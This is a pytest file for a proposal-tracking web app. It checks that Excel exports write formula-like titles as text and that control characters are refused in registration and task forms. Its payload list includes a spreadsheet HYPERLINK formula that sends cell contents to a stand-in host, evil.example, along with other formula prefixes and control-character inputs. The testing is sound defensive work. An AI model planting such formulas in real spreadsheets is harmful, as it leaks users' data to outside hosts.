"""Exports that cannot be abused: no live formula from a title, no control character that breaks them,
and control characters refused where text comes in."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from engine.items.registration import register_item
from engine.models import Item
from engine.reports.excel import export_cell, items_workbook
from engine.workflow.forms import FormInvalid
from tests.conftest import csrf_token, login, user

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        "＝1+1"]


@pytest.mark.parametrize("title", EVIL)
def test_formula_prefixes_are_written_as_text(title):
    assert export_cell(title).startswith("'")
    ws = load_workbook(io.BytesIO(items_workbook([]))).active  # a workbook opens; and a cell stays text:
    cell = ws.cell(1, 1)
    cell.value = export_cell(title)
    assert cell.data_type == "s"


def test_ordinary_values_are_kept():
    assert export_cell("关于优化公交线路的建议") == "关于优化公交线路的建议"
    assert export_cell(2026) == 2026 and export_cell(None) is None and export_cell("") == ""
    assert export_cell("a\x07b\x00c") == "abc" and export_cell("行一\n行二") == "行一\n行二"


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_item_export_with_a_formula_and_a_control_character_in_titles(client, demo_db):
    with demo_db.transaction() as s:  # as old data or another door could have left them
        items = s.scalars(select(Item).where(Item.year == 2026).order_by(Item.id).limit(2)).all()
        items[0].title, items[1].title = '=HYPERLINK("http://evil.example","点我")', "有控制字符\x07\x1b的案由"
    login(client, "office")
    for url in ("/reports/items.xlsx?year=2026", "/reports/statistics-2026.xlsx"):
        r = client.get(url)
        assert r.status_code == 200, url
        cells = xlsx_cells(r.data)
        assert not [v for v, t in cells if t == "f"]  # no formula anywhere
        texts = [v for v, _ in cells if isinstance(v, str)]
        if "items" in url:
            assert "'=HYPERLINK(\"http://evil.example\",\"点我\")" in texts and "有控制字符的案由" in texts


def test_registration_refuses_control_characters(demo_db):
    with demo_db.transaction() as s:
        with pytest.raises(FormInvalid) as caught:
            register_item(s, {"item_type": "suggestion", "proposer": "deputy_chen", "title": "标题\x07",
                              "content": "正文\u202e反向"}, user(s, "office"))
        codes = {(e.field, e.code) for e in caught.value.errors}
        assert codes == {("title", "control"), ("content", "control")}
        assert "U+0007" in caught.value.errors[0].message("en")
        ok = register_item(s, {"item_type": "suggestion", "proposer": "deputy_chen", "title": "标题",
                               "content": "第一段\n\t第二段"}, user(s, "office"))
        assert ok.id


def test_a_nul_in_the_proposer_or_cosigners_is_refused_before_any_lookup(demo_db):
    """Found by the API contract test on PostgreSQL, which refuses a NUL even as a query parameter: the
    co-signers were looked up on the roster before the control-character check ran (a 500)."""
    with demo_db.transaction() as s:
        with pytest.raises(FormInvalid) as caught:
            register_item(s, {"item_type": "suggestion", "proposer": "deputy\x00chen", "title": "标题",
                              "content": "正文", "cosigners": "\x00陈"}, user(s, "office"))
        assert {(e.field, e.code) for e in caught.value.errors} == {("proposer", "control"), ("cosigners", "control")}


def test_task_forms_refuse_control_characters(client, demo_db):
    login(client, "office")
    with demo_db.reading() as s:
        from tests.conftest import task_for
        item = s.scalars(select(Item).where(Item.title == "关于推进垃圾分类的建议", Item.year == 2026)).one()
        task = task_for(s, item.id, "decide_return")
    token = csrf_token(client, f"/tasks/{task.id}")
    r = client.post(f"/tasks/{task.id}", data={"csrf_token": token, "return_decision": "refuse",
                                               "return_opinion": "不同意\x1b[31m"})
    assert r.status_code == 400 and "控制字符" in r.get_data(as_text=True)
